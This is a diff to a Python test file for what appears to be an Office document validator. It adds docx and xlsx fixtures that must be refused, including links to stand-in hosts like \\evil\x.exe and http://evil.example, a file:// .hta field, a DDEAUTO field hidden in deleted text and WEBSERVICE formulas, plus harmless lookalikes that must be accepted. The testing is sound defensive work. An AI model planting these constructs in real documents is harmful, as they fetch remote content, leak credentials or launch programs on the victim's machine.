@@ -175,6 +175,55 @@ HOSTILE = {
 }
 
 
+def document(inner: str) -> bytes:
+    """A document with this in its body."""
+    return package("docx", main=f'<w:document xmlns:w="w" xmlns:v="v" xmlns:o="o">{inner}</w:document>')
+
+
+def run(tag: str, words: str) -> str:
+    return f"<w:r><w:{tag}>{words}</w:{tag}></w:r>"
+
+
+BEGIN, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
+NAMED_BY_NUMBERS = f"{BEGIN}{BEGIN}{run('instrText', 'QUOTE 68 68 69 32 97')}{END}{END}"
+HOSTILE |= {
+    "a picture from a share, said to lie within": (linked("docx", "image \\\\evil\\x.png"), OUTSIDE),
+    "a picture from a host, said to lie within": (linked("docx", "image //evil/x.png"), OUTSIDE),
+    "a link that starts a program": (linked("docx", "hyperlink \\\\evil\\x.exe", "External"), OUTSIDE),
+    "a link that opens macros": (linked("xlsx", "hyperlink file:///C:/x.docm", "External"), OUTSIDE),
+    "a field that starts a program": (document(field('HYPERLINK "file://evil/x.hta"')), OUTSIDE),
+    "a field in deleted text": (document(BEGIN + run("delInstrText", "DDEAUTO x") + END), OUTSIDE),
+    "a field that another one names": (document(NAMED_BY_NUMBERS), OUTSIDE),
+    "a drawing's picture by address": (document('<v:imagedata src="http://evil.example/x"/>'), OUTSIDE),
+    "a drawing's picture by a linked address": (document('<v:fill o:href="\\\\evil\\x"/>'), OUTSIDE),
+    "a table published at each save": (
+        package("xlsx", main=f'<workbook xmlns="{MAIN}"><x destinationFile="\\\\evil\\x"/></workbook>'),
+        OUTSIDE,
+    ),
+    "a formula of another workbook": (sheet("'[http://evil.example/x.xlsx]S'!A1"), OUTSIDE),
+    "a formula of a numbered workbook": (sheet("1+[1]S!A1"), OUTSIDE),
+    "a formula with its mark in capitals": (sheet("_XLFN.WEBSERVICE(A1)"), OUTSIDE),
+    "a formula with another mark": (sheet("_xlfn._xlws.PY(1)"), OUTSIDE),
+    "a formula whose link starts a program": (sheet('HYPERLINK("\\\\evil\\x.exe")'), OUTSIDE),
+}
+HARMLESS = {
+    "a column of a table": sheet("SUM(表1[[#This Row],[金额]])-Sheet2!A1+'甲 表'!B2"),
+    "a name of the workbook itself": sheet("[0]!总额"),
+    "words in brackets": sheet('IF(A1&gt;0,"[1]年!","x")'),
+    "a link to a page": sheet('HYPERLINK("https://www.hangzhou.gov.cn/a.exe","网页")'),
+    "a link to a file": linked("docx", "hyperlink file:///C:/资料/表.docx", "External"),
+    "a picture within, copied from a mail": document('<v:imagedata o:href="cid:image001.png"/>'),
+    "a field in a field": document(
+        f"{BEGIN}{run('instrText', 'IF ')}{BEGIN}{run('instrText', 'PAGE')}{END}{run('instrText', '= 1')}{END}"
+    ),
+}
+
+
+@pytest.mark.parametrize("content", HARMLESS.values(), ids=HARMLESS)
+def test_what_only_looks_alike_is_taken(content):
+    assert recognise(content).suffixes[0] in {".docx", ".xlsx"}
+
+
 @pytest.mark.parametrize(("content", "words"), HOSTILE.values(), ids=HOSTILE)
 def test_what_runs_or_fetches_is_refused_and_the_words_say_what_to_do(content, words):
     with pytest.raises(DocumentError) as refusal:
